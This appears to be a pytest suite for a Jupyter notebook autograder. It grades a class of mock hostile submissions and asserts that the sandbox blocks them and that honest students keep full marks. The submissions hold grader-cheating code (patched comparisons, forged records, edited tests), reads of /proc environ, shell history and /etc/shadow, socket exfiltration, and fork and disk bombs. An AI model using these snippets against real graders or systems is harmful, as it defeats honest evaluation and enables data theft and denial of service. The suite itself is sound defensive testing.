@@ -1,0 +1,548 @@
+"""Hostile and faulty submissions, graded in one class beside honest ones.
+
+Every submission here tries to cheat, snoop, break the grader or hurt a
+classmate, or is broken in a way real hand-ins are.  Each must get exactly
+the automatic score below (out of 17), and the honest students graded before
+and after them keep full marks.  The class is graded once, through the real
+command, with short time limits so that the suite stays fast.
+"""
+from __future__ import annotations
+
+import copy
+import csv
+import hashlib
+import os
+import socket
+import threading
+from pathlib import Path
+
+import nbformat
+import pytest
+from nbformat.v4 import new_code_cell
+
+from autograder import sandbox
+from autograder.course import EXERCISES, REPO_ROOT, SOLUTIONS
+from conftest import run_autograder
+from submissions import solved, write
+
+ASSIGNMENT, NOTEBOOK = "04-attention", "attention"
+FULL = 17.0
+ANSWERS = ("answer_long_range", "answer_positions")
+CELL_TIMEOUT, NOTEBOOK_TIMEOUT = 10, 45
+PART_POINTS = {"attention": 4, "causal": 2, "padding": 2, "multi_head": 4, "sinusoidal": 2, "rotary": 3}
+SDPA = "scaled_dot_product_attention"
+
+# Lines that only the hidden tests contain: none may reach a student.
+HIDDEN_LINES = ("def _check_attention(shape, mask=None, dtype=torch.float32, atol=1e-5):",
+                "theirs = nn.MultiheadAttention(E, H, batch_first=True, dtype=dtype).eval()")
+
+# student id -> expected automatic score; filled in by the builders below.
+EXPECTED: dict[str, float] = {}
+BUILDERS = {}
+
+
+def student(name: str, score: float):
+    def register(build):
+        EXPECTED[name] = score
+        BUILDERS[name] = build
+        return build
+    return register
+
+
+def exercise():
+    return copy.deepcopy(nbformat.read(EXERCISES / ASSIGNMENT / f"{NOTEBOOK}.ipynb", as_version=4))
+
+
+def with_cell(notebook, after: str, code: str):
+    """Insert a student cell after the cell with grade id ``after``."""
+    index = next(i for i, c in enumerate(notebook.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == after)
+    notebook.cells.insert(index + 1, new_code_cell(code))
+    return notebook
+
+
+def grade_cell(notebook, grade_id):
+    return next(c for c in notebook.cells if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)
+
+
+# ------------------------------------------------------------------ honest
+
+@student("aa-honest-first", FULL)
+def _(ctx):
+    return solved(ASSIGNMENT, NOTEBOOK)
+
+
+@student("zz-honest-last", FULL)
+def _(ctx):
+    return solved(ASSIGNMENT, NOTEBOOK)
+
+
+# --------------------------------------------------- cheating the comparison
+
+WRONG_ATTENTION = {SDPA: [(" / math.sqrt(d_k)", "")]}  # no scaling: part 1 is worth 0
+
+
+@student("patches-comparisons", FULL - 4)
+def _(ctx):
+    return with_cell(solved(ASSIGNMENT, NOTEBOOK, WRONG_ATTENTION), "setup", (
+        "import numpy, nlpbook.checks\n"
+        "torch.allclose = lambda *a, **k: True\n"
+        "torch.equal = lambda *a, **k: True\n"
+        "torch.testing.assert_close = lambda *a, **k: None\n"
+        "numpy.testing.assert_allclose = lambda *a, **k: None\n"
+        "nlpbook.checks.compare_close = lambda *a, **k: None\n"
+        "nlpbook.checks.check_shape = lambda *a, **k: None\n"))
+
+
+@student("replaces-test-helpers", 1.0)  # only part 4's visible test makes no expect_close call
+def _(ctx):
+    # Sabotaging the tests' own helpers removes the checks, and a check that never ran fails.
+    return with_cell(solved(ASSIGNMENT, NOTEBOOK), "setup", "expect_close = lambda *a, **k: None\n")
+
+
+@student("always-equal-object", FULL - 2)
+def _(ctx):
+    notebook = solved(ASSIGNMENT, NOTEBOOK)
+    cell = next(c for c in notebook.cells if c.metadata.get("nbgrader", {}).get("grade_id") == "causal_mask")
+    cell.source = (
+        "class Anything:\n"
+        "    def __eq__(self, other): return True\n"
+        "    def __getattr__(self, name): return lambda *a, **k: self\n"
+        "    shape = property(lambda self: (3, 3))\n"
+        "    dtype = torch.float32\n\n"
+        "def causal_mask(seq_len, *, dtype=torch.float32, device=None):\n"
+        "    return Anything()\n")
+    return notebook
+
+
+@student("reads-callers-frame", FULL - 4)
+def _(ctx):
+    return solved(ASSIGNMENT, NOTEBOOK, {SDPA: [("    d_k = query.shape[-1]", (
+        "    import sys\n"
+        "    frame = sys._getframe(1)\n"
+        "    while frame is not None:\n"
+        "        for name, found in dict(frame.f_locals).items():\n"
+        "            if name.startswith('expected') and isinstance(found, tuple):\n"
+        "                return found\n"
+        "        frame = frame.f_back\n"
+        "    return torch.zeros(*query.shape[:-1], value.shape[-1]), torch.zeros(*query.shape[:-1], key.shape[-2])\n"
+        "    d_k = query.shape[-1]"))]})
+
+
+@student("hides-every-error", 0.0)
+def _(ctx):
+    # The untouched exercise raises NotImplementedError everywhere; plain nbgrader would see no error at all.
+    return with_cell(exercise(), "setup", (
+        "import sys\n"
+        "ip = get_ipython()\n"
+        "ip.set_custom_exc((BaseException,), lambda *args, **kwargs: None)\n"
+        "ip.showtraceback = lambda *a, **k: None\n"
+        "ip._showtraceback = lambda *a, **k: None\n"
+        "sys.excepthook = lambda *a: None\n"))
+
+
+@student("forges-records", 0.0)
+def _(ctx):
+    return with_cell(exercise(), "setup", (
+        "import nlpbook.checks as checks\n"
+        "from IPython.display import display\n"
+        "checks.encode = lambda value, strict=False: {'value': True}\n"
+        "for kind in ('close', 'shape', 'true', 'dtype'):\n"
+        "    display({checks.CHECK_MIME: {'kind': kind, 'name': 'x', 'actual': {'value': True}}}, raw=True)\n"
+        "print(1.0)\n"))
+
+
+@student("edits-tests-and-points", FULL - 4)
+def _(ctx):
+    notebook = solved(ASSIGNMENT, NOTEBOOK, WRONG_ATTENTION)
+    for grade_id in ("test_scaled_dot_product_attention_visible", "test_scaled_dot_product_attention_hidden"):
+        cell = grade_cell(notebook, grade_id)
+        cell.source = "pass  # tests removed"
+        cell.metadata.nbgrader["points"] = 100
+    return notebook
+
+
+@student("deletes-tests", FULL)
+def _(ctx):
+    notebook = solved(ASSIGNMENT, NOTEBOOK)
+    notebook.cells = [c for c in notebook.cells if not c.metadata.get("nbgrader", {}).get("grade", False)
+                      or c.metadata.nbgrader.get("solution")]
+    return notebook
+
+
+@student("duplicates-a-test-id", FULL - 2)
+def _(ctx):
+    notebook = solved(ASSIGNMENT, NOTEBOOK, {"causal_mask": [("diagonal=1", "diagonal=0")]})
+    fake = copy.deepcopy(grade_cell(notebook, "test_causal_mask_hidden"))
+    fake.source = "pass"
+    notebook.cells.insert(notebook.cells.index(grade_cell(notebook, "test_causal_mask_visible")), fake)
+    return notebook
+
+
+@student("adds-a-bonus-grade-cell", FULL)
+def _(ctx):
+    notebook = with_cell(solved(ASSIGNMENT, NOTEBOOK), "setup", "bonus = True")
+    cell = notebook.cells[notebook.cells.index(grade_cell(notebook, "setup")) + 1]
+    cell.metadata["nbgrader"] = {"grade": True, "grade_id": "bonus", "points": 100, "solution": False,
+                                 "locked": True, "schema_version": 3}
+    return notebook
+
+
+# ----------------------------------------------------------- reaching out
+
+@student("snoops-on-files", FULL)
+def _(ctx):
+    targets = [SOLUTIONS / ASSIGNMENT / f"{NOTEBOOK}.ipynb", ctx["out"], ctx["submissions"],
+               ctx["submissions"] / "aa-honest-first" / ASSIGNMENT / f"{NOTEBOOK}.ipynb", "/proc/1/environ",
+               Path.home() / ".bash_history"]
+    return with_cell(solved(ASSIGNMENT, NOTEBOOK), "setup", (
+        "import os, glob\n"
+        f"for path in {[str(t) for t in targets]!r}:\n"
+        "    try:\n"
+        "        found = os.listdir(path) if os.path.isdir(path) else open(path, 'rb').read(100)\n"
+        "        print('READ', path, len(found) > 0)\n"
+        "    except Exception as error:\n"
+        "        print('BLOCKED', path, type(error).__name__)\n"
+        "own = open('attention.ipynb').read()\n"
+        "print('OWN NOTEBOOK HAS HIDDEN TESTS' if '_check_' + 'attention(' in own else 'own notebook: no hidden tests')\n"
+        f"print('gradebooks found:', [p for top in ('/tmp', {str(REPO_ROOT)!r}, {str(ctx['out'])!r})\n"
+        "                              for p in glob.glob(top + '/**/gradebook.db', recursive=True)])\n"))
+
+
+@student("writes-to-others", FULL)
+def _(ctx):
+    victim = ctx["submissions"] / "aa-honest-first" / ASSIGNMENT / f"{NOTEBOOK}.ipynb"
+    targets = [victim, REPO_ROOT / "nlpbook" / "checks.py", REPO_ROOT / "pwned.txt", ctx["out"] / "grades.csv"]
+    return with_cell(solved(ASSIGNMENT, NOTEBOOK), "setup", (
+        f"for path in {[str(t) for t in targets]!r}:\n"
+        "    try:\n"
+        "        with open(path, 'a') as handle:\n"
+        "            handle.write('pwned')\n"
+        "        print('WROTE', path)\n"
+        "    except Exception as error:\n"
+        "        print('BLOCKED', path, type(error).__name__)\n"))
+
+
+@student("opens-the-network", FULL)
+def _(ctx):
+    return with_cell(solved(ASSIGNMENT, NOTEBOOK), "setup", (
+        "import socket\n"
+        f"for address in [('127.0.0.1', {ctx['port']}), ('1.1.1.1', 80)]:\n"
+        "    try:\n"
+        "        socket.create_connection(address, timeout=3).sendall(b'leak')\n"
+        "        print('CONNECTED', address)\n"
+        "    except OSError as error:\n"
+        "        print('BLOCKED', address, type(error).__name__)\n"))
+
+
+@student("quotes-hidden-tests", FULL)
+def _(ctx):
+    notebook = solved(ASSIGNMENT, NOTEBOOK)
+    notebook.cells.append(new_code_cell(
+        "everything = '\\n'.join(In)\n"
+        "print(everything)\n"
+        "raise RuntimeError(everything)\n"))
+    return notebook
+
+
+# -------------------------------------------------------- breaking things
+
+@student("infinite-loop", FULL - 2)
+def _(ctx):
+    return solved(ASSIGNMENT, NOTEBOOK, {"causal_mask": [("    blocked = torch.full", "    while True:\n"
+                                                                                   "        pass\n"
+                                                                                   "    blocked = torch.full")]})
+
+
+@student("ignores-interrupts", 6.0)  # parts 1 and 2 ran; the notebook stops in part 3
+def _(ctx):
+    return solved(ASSIGNMENT, NOTEBOOK, {"padding_mask": [("    mask = torch.zeros", (
+        "    import time\n"
+        "    while True:\n"
+        "        try:\n"
+        "            time.sleep(1)\n"
+        "        except KeyboardInterrupt:\n"
+        "            pass\n"
+        "    mask = torch.zeros"))]})
+
+
+@student("too-slow-overall", 12.0)  # parts 1-4 ran; the notebook time limit stops it before part 5
+def _(ctx):
+    notebook = solved(ASSIGNMENT, NOTEBOOK)
+    for _ in range(6):
+        with_cell(notebook, "test_multi_head_hidden", "import time; time.sleep(8)")
+    return notebook
+
+
+@student("exits-the-kernel", 12.0)  # os._exit in part 5: parts 1-4 count
+def _(ctx):
+    return solved(ASSIGNMENT, NOTEBOOK, {"sinusoidal_positions": [("    if dim % 2:", "    import os; os._exit(3)\n"
+                                                                                    "    if dim % 2:")]})
+
+
+@student("kills-the-kernel", 14.0)  # SIGKILL in part 6: parts 1-5 count
+def _(ctx):
+    return solved(ASSIGNMENT, NOTEBOOK, {"apply_rotary": [("    dim = x.shape[-1]", (
+        "    import os, signal; os.kill(os.getpid(), signal.SIGKILL)\n"
+        "    dim = x.shape[-1]"))]})
+
+
+@student("calls-sys-exit", FULL - 2)
+def _(ctx):
+    return solved(ASSIGNMENT, NOTEBOOK, {"padding_mask": [("    mask = torch.zeros", "    import sys; sys.exit(0)\n"
+                                                                                "    mask = torch.zeros")]})
+
+
+@student("memory-bomb", FULL - 4)
+def _(ctx):
+    return solved(ASSIGNMENT, NOTEBOOK, {"MultiHeadSelfAttention": [(
+        "        self.q_proj = nn.Linear(embed_dim, embed_dim)",
+        "        self.hoard = bytearray(64 << 30)\n"
+        "        self.q_proj = nn.Linear(embed_dim, embed_dim)")]})
+
+
+@student("fork-bomb", 0.0)  # the bomb takes every process the limit allows: its own kernel dies of it
+def _(ctx):
+    return with_cell(solved(ASSIGNMENT, NOTEBOOK), "setup", (
+        "import os, time\n"
+        "children = 0\n"
+        "try:\n"
+        "    while children < 5000:\n"
+        "        if os.fork() == 0:\n"
+        "            time.sleep(3600)\n"
+        "            os._exit(0)\n"
+        "        children += 1\n"
+        "except OSError as error:\n"
+        "    print('FORK STOPPED', children, type(error).__name__)\n"))
+
+
+@student("leaves-processes", FULL)
+def _(ctx):
+    return with_cell(solved(ASSIGNMENT, NOTEBOOK), "setup", (
+        "import subprocess, os\n"
+        "subprocess.Popen(['sleep', '987'], start_new_session=True)\n"
+        "if os.fork() == 0:\n"
+        "    os.setsid()\n"
+        "    if os.fork() == 0:\n"
+        "        os.execvp('sleep', ['sleep', '987'])\n"
+        "    os._exit(0)\n"))
+
+
+@student("floods-output", FULL)
+def _(ctx):
+    return with_cell(solved(ASSIGNMENT, NOTEBOOK), "setup", (
+        "import sys\n"
+        "for _ in range(20000):\n"
+        "    sys.stdout.write('x' * 5000 + '\\n')\n"
+        "    sys.stderr.write('y' * 500 + '\\n')\n"))
+
+
+@student("fills-the-disk", FULL)
+def _(ctx):
+    return with_cell(solved(ASSIGNMENT, NOTEBOOK), "setup", (
+        "block = b'0' * (1 << 20)\n"
+        "try:\n"
+        "    with open('big.bin', 'wb') as handle:\n"
+        "        for _ in range(4096):\n"
+        "            handle.write(block)\n"
+        "except OSError as error:\n"
+        "    print('DISK STOPPED', type(error).__name__)\n"))
+
+
+@student("wrong-kernelspec", FULL)
+def _(ctx):
+    notebook = solved(ASSIGNMENT, NOTEBOOK)
+    notebook.metadata["kernelspec"] = {"name": "ir", "display_name": "R", "language": "R"}
+    return notebook
+
+
+# -------------------------------------------------------- broken hand-ins
+
+def _raw(name, content: bytes):
+    def build(ctx):
+        return content
+    EXPECTED[name] = 0.0
+    BUILDERS[name] = build
+
+
+_raw("not-utf8", nbformat.writes(nbformat.v4.new_notebook(cells=[new_code_cell("s = 'café'")])).encode("latin-1"))
+_raw("corrupt-json", b'{"cells": [{"cell_type": "code", "source": "x = ')
+
+
+def _hand_in(ctx, name):
+    built = BUILDERS[name](ctx)
+    folder = ctx["submissions"] / name / ASSIGNMENT
+    if isinstance(built, bytes):
+        folder.mkdir(parents=True)
+        (folder / f"{NOTEBOOK}.ipynb").write_bytes(built)
+    else:
+        write(built, folder, NOTEBOOK)
+
+
+def _links_and_strays(submissions: Path):
+    """Hand-ins that are links or misnamed: scored 0 and never followed."""
+    (submissions / "links-a-notebook" / ASSIGNMENT).mkdir(parents=True)
+    (submissions / "links-a-notebook" / ASSIGNMENT / f"{NOTEBOOK}.ipynb").symlink_to(
+        submissions / "aa-honest-first" / ASSIGNMENT / f"{NOTEBOOK}.ipynb")
+    (submissions / "links-a-folder").mkdir()
+    (submissions / "links-a-folder" / ASSIGNMENT).symlink_to(submissions / "aa-honest-first" / ASSIGNMENT)
+    (submissions / "links-a-system-file" / ASSIGNMENT).mkdir(parents=True)
+    write(solved(ASSIGNMENT, NOTEBOOK), submissions / "links-a-system-file" / ASSIGNMENT, NOTEBOOK)
+    (submissions / "links-a-system-file" / ASSIGNMENT / "data.txt").symlink_to("/etc/shadow")
+    (submissions / "links-a-system-file" / ASSIGNMENT / "loop").symlink_to("..")
+    (submissions / "renames-the-notebook" / ASSIGNMENT).mkdir(parents=True)
+    write(solved(ASSIGNMENT, NOTEBOOK), submissions / "renames-the-notebook" / ASSIGNMENT, "Attention (1)")
+
+
+EXPECTED.update({"links-a-notebook": 0.0, "links-a-folder": 0.0, "links-a-system-file": FULL,
+                 "renames-the-notebook": 0.0})
+
+
+def _sha256_tree(folder: Path) -> dict[str, str]:
+    hashes = {}
+    for path in sorted(folder.rglob("*")):
+        if path.is_file() and not path.is_symlink() and not any(p.is_symlink() for p in path.parents):
+            hashes[str(path.relative_to(folder))] = hashlib.sha256(path.read_bytes()).hexdigest()
+    return hashes
+
+
+def _processes() -> list[dict]:
+    """Every process on the machine: its user id and command line (from /proc, no tools needed)."""
+    found = []
+    for entry in Path("/proc").iterdir():
+        try:
+            uid = entry.stat().st_uid if entry.name.isdigit() else None
+            cmdline = (entry / "cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace").strip()
+        except OSError:
+            continue
+        if uid is not None:
+            found.append({"pid": int(entry.name), "uid": uid, "cmdline": cmdline})
+    return found
+
+
+class _Listener:
+    """A TCP server on the grader's loopback: any connection from a kernel is a leak."""
+
+    def __init__(self):
+        self.server = socket.create_server(("127.0.0.1", 0))
+        self.port = self.server.getsockname()[1]
+        self.connections = 0
+        threading.Thread(target=self._accept, daemon=True).start()
+
+    def _accept(self):
+        while True:
+            try:
+                connection, _ = self.server.accept()
+            except OSError:
+                return
+            self.connections += 1
+            connection.close()
+
+
+@pytest.fixture(scope="module")
+def hostile_class(tmp_path_factory):
+    submissions = tmp_path_factory.mktemp("hostile-submissions")
+    out = tmp_path_factory.mktemp("hostile-graded") / "out"
+    listener = _Listener()
+    ctx = {"submissions": submissions, "out": out, "port": listener.port}
+    for name in list(BUILDERS):
+        _hand_in(ctx, name)
+    _links_and_strays(submissions)
+    repo_before = _sha256_tree(REPO_ROOT / "nlpbook")
+    before = _sha256_tree(submissions)
+    result = run_autograder("grade", ASSIGNMENT, "--submissions", str(submissions), "--out", str(out),
+                            "--timeout", str(CELL_TIMEOUT), "--notebook-timeout", str(NOTEBOOK_TIMEOUT),
+                            "--memory-mb", "3072")
+    leftovers = [p for p in _processes() if p["cmdline"] == "sleep 987"]
+    sandboxed = [p for p in _processes() if p["uid"] == sandbox.SANDBOX_UID]
+    listener.server.close()
+    return {"out": out, "result": result, "before": before, "after": _sha256_tree(submissions),
+            "repo_before": repo_before, "repo_after": _sha256_tree(REPO_ROOT / "nlpbook"),
+            "connections": listener.connections, "leftovers": leftovers, "sandboxed": sandboxed}
+
+
+@pytest.fixture(scope="module")
+def scores(hostile_class):
+    totals: dict[str, float] = {}
+    with open(hostile_class["out"] / "parts.csv", newline="") as handle:
+        for row in csv.DictReader(handle):
+            if row["part"] not in ANSWERS:
+                totals[row["student_id"]] = totals.get(row["student_id"], 0.0) + float(row["score"])
+    return totals
+
+
+def _outputs(hostile_class, name) -> str:
+    path = hostile_class["out"] / "course" / "autograded" / name / ASSIGNMENT / f"{NOTEBOOK}.ipynb"
+    notebook = nbformat.read(path, as_version=4)
+    return "\n".join(str(o.get("text", "")) + str(o.get("evalue", "")) for c in notebook.cells
+                     if c.cell_type == "code" for o in c.outputs)
+
+
+def _log(hostile_class) -> str:
+    return (hostile_class["out"] / "grading.log").read_text(encoding="utf-8")
+
+
+def test_the_class_is_graded(hostile_class):
+    result = hostile_class["result"]
+    assert result.returncode in (0, 3), result.stdout + result.stderr
+    assert (hostile_class["out"] / "grades.csv").exists()
+
+
+@pytest.mark.parametrize("name", sorted(EXPECTED))
+def test_each_submission_gets_exactly_its_score(scores, name):
+    assert scores.get(name, 0.0) == EXPECTED[name], f"{name}: {scores.get(name)}"
+
+
+def test_honest_students_keep_full_marks(scores):
+    assert scores["aa-honest-first"] == scores["zz-honest-last"] == FULL
+
+
+def test_no_submission_and_no_repository_file_was_modified(hostile_class):
+    assert hostile_class["before"] == hostile_class["after"]
+    assert hostile_class["repo_before"] == hostile_class["repo_after"]
+    assert not (REPO_ROOT / "pwned.txt").exists()
+
+
+def test_student_code_reads_no_hidden_file_and_writes_nowhere(hostile_class):
+    snooped = _outputs(hostile_class, "snoops-on-files")
+    assert "READ" not in snooped and snooped.count("BLOCKED") == 6, snooped
+    assert "own notebook: no hidden tests" in snooped and "gradebooks found: []" in snooped
+    written = _outputs(hostile_class, "writes-to-others")
+    assert "WROTE" not in written and written.count("BLOCKED") == 4, written
+
+
+def test_the_network_is_unreachable(hostile_class):
+    assert hostile_class["connections"] == 0
+    out = _outputs(hostile_class, "opens-the-network")
+    assert "CONNECTED" not in out and out.count("BLOCKED") == 2
+
+
+def test_limits_stop_bombs_and_nothing_is_left_running(hostile_class):
+    assert "FORK STOPPED" in _outputs(hostile_class, "fork-bomb")
+    assert "DISK STOPPED" in _outputs(hostile_class, "fills-the-disk")
+    assert hostile_class["leftovers"] == [] and hostile_class["sandboxed"] == []
+    flooded = hostile_class["out"] / "course" / "autograded" / "floods-output" / ASSIGNMENT / f"{NOTEBOOK}.ipynb"
+    assert flooded.stat().st_size < 3_000_000
+    assert "[output truncated" in _outputs(hostile_class, "floods-output")
+
+
+def test_feedback_never_quotes_hidden_tests(hostile_class):
+    feedback = hostile_class["out"] / "feedback"
+    pages = [p.read_text(encoding="utf-8") for p in feedback.rglob("*.html")]
+    assert len(pages) >= 25
+    import html as html_module
+    for page in pages:
+        text = html_module.unescape(page)
+        for line in HIDDEN_LINES:
+            assert line not in text
+
+
+def test_the_log_names_each_fault(hostile_class):
+    log = _log(hostile_class)
+    for name, words in [("exits-the-kernel", "the kernel died"), ("kills-the-kernel", "the kernel died"),
+                        ("ignores-interrupts", "ignored the interrupt"),
+                        ("too-slow-overall", "time limit of 45 s"),
+                        ("not-utf8", "not UTF-8"), ("corrupt-json", "not a valid notebook"),
+                        ("links-a-notebook", "a link"), ("renames-the-notebook", "missing")]:
+        assert any(name in line and words in line for line in log.splitlines()), (name, words)
+    assert "NEEDS REVIEW not-utf8" in log and "NEEDS REVIEW corrupt-json" in log
+    assert "SANDBOX PROTECTION MISSING" not in log  # graded in the strongest mode
